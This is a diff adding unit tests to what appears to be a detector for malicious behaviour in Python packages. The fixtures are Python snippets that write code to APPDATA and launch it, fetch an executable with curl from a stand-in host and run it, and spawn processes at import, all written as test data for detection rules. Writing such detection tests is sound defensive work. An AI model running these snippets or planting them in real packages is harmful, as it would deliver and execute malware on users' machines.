@@ -317,6 +317,30 @@ TEST(Behaviour, HostFactsSentByTopLevelCodeOfAnyModule) {
   EXPECT_EQ(Find(fs, "exfiltration")->severity, Severity::kMedium);
 }
 
+TEST(Behaviour, FilesWrittenThenStarted) {
+  ExpectFinding("import os\nopen(os.environ['APPDATA'] + '\\\\x.pyw', 'w').write(CODE)\n"
+                "os.startfile(os.environ['APPDATA'] + '\\\\x.pyw')\n",
+                "drop-executable", Severity::kHigh);
+  ExpectFinding("import os, tempfile, sys\nt = tempfile.NamedTemporaryFile(delete=False)\n"
+                "t.write(CODE)\nos.system(f'start {sys.executable} {t.name}')\n",
+                "drop-executable", Severity::kHigh);
+  // A file written and a process started that has nothing to do with it.
+  ExpectNoFinding("import os\nopen('log.txt', 'w').write('x')\nos.system('ls')\n", "drop-executable");
+}
+
+TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
+  ExpectFinding("import subprocess\nsubprocess.Popen('curl http://x.example/a.exe -o a.exe', shell=True)\n"
+                "subprocess.Popen(['C:/a.exe'])\n",
+                "download-exec", Severity::kHigh);
+  ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n",
+                "process-at-import", Severity::kHigh);
+  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n",
+                "process-at-import", Severity::kHigh);
+  auto fs = Analyze("import subprocess\nsubprocess.call(['git', 'describe'])\n");
+  ASSERT_NE(Find(fs, "process-at-import"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "process-at-import")->severity, Severity::kMedium);
+}
+
 TEST(Behaviour, CodeSpeltInEscapes) {
   ExpectFinding("e = eval(\"\\145\\166\\141\\x6c\")\n", "exec-decoded", Severity::kCritical);
   ExpectFinding("def f():\n    exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')\n",
